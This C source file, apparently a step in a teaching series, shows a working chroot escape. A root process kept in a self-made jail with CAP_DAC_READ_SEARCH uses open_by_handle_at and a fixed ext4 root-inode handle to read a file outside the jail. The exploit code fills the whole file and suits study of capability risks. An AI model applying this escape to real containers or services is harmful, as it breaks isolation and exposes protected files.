/* step16-escape.c - an attack that works: root with one capability too many
 *
 *   ./step16-escape FILE      as root; FILE must be on an ext4 file system
 *
 * A web server with uid 0 is shut up in an empty directory.  It has
 * CAP_NET_BIND_SERVICE for its port, and CAP_DAC_READ_SEARCH because some of its
 * pages are not readable for all.  Whoever takes it over reads FILE, outside.
 *
 * New in this step: with CAP_DAC_READ_SEARCH open_by_handle_at(2) opens a file by
 * its inode number.  There is no path, so no root directory holds it back. */
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/magic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/capability.h>
#include <sys/stat.h>
#include <sys/vfs.h>
#include <unistd.h>

/* below_root: an absolute path without the mount point that it begins with */
static const char *below_root(const char *path)
{
	char prefix[PATH_MAX] = "/";
	struct stat file, dir;
	size_t length = 1;

	if (stat(path, &file) == -1)
		err(1, "%s", path);
	while (stat(prefix, &dir) == 0 && dir.st_dev != file.st_dev) {
		length += strcspn(path + length, "/") + 1;
		snprintf(prefix, sizeof(prefix), "%.*s", (int)length, path);
	}
	return path + length;
}

/* shut_up: into a directory beside FILE, on the same file system, which is
 * nameless from then on */
static void shut_up(const char *path)
{
	char dir[PATH_MAX + 8];

	snprintf(dir, sizeof(dir), "%s.XXXXXX", path);
	if (!mkdtemp(dir) || chdir(dir) == -1 || rmdir(dir) == -1 || chroot(".") == -1)
		err(1, "%s", dir);
}

static void keep(int count, const cap_value_t *kept)
{
	cap_t caps = cap_init();

	if (!caps || cap_set_flag(caps, CAP_PERMITTED, count, kept, CAP_SET) == -1 ||
	    cap_set_flag(caps, CAP_EFFECTIVE, count, kept, CAP_SET) == -1 || cap_set_proc(caps) == -1)
		err(1, "cap_set_proc");
	printf("the service has:   %s\n", cap_to_text(caps, NULL));
}

static void print(const char *how, int fd)
{
	char text[256];
	ssize_t length = fd == -1 ? -1 : read(fd, text, sizeof(text));

	if (length == -1)
		printf("%s%s\n", how, strerror(errno));
	else
		printf("%s%.*s", how, (int)length, text);
}

int main(int argc, char **argv)
{
	static const cap_value_t kept[] = { CAP_NET_BIND_SERVICE, CAP_DAC_READ_SEARCH };
	static const uint32_t inode_generation[] = { 2, 0 };	/* of the root directory of every ext4 */
	struct file_handle *root = calloc(1, sizeof(*root) + sizeof(inode_generation));
	char path[PATH_MAX];
	struct statfs fs;

	if (argc != 2)
		errx(2, "usage: step16-escape FILE");
	if (!realpath(argv[1], path) || statfs(path, &fs) == -1 || !root)
		err(1, "%s", argv[1]);
	if (fs.f_type != EXT4_SUPER_MAGIC)
		errx(77, "%s is not on an ext4 file system: this attack knows no other", path);
	const char *rest = below_root(path);

	shut_up(path);
	keep(sizeof(kept) / sizeof(kept[0]), kept);
	print("by its path:       ", open(path, O_RDONLY | O_CLOEXEC));

	root->handle_bytes = sizeof(inode_generation);
	root->handle_type = 1;
	memcpy(root->f_handle, inode_generation, sizeof(inode_generation));
	int dir = open_by_handle_at(AT_FDCWD, root, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	print("by a handle:       ", dir == -1 ? -1 : openat(dir, rest, O_RDONLY | O_CLOEXEC));
}
